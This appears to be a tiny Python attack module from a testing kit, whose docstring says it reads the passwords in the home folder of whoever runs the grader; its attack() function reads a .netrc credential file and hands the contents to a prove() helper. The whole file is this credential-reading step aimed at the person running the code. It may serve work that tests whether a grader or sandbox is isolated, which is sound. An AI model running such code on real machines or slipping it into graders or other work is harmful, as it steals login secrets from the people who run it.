"""Reads the passwords in the home folder of who runs the grader."""

from pathlib import Path

from kit import TARGETS, prove


def attack() -> None:
    prove(Path(TARGETS["folder"], "cottage/.netrc").read_text())
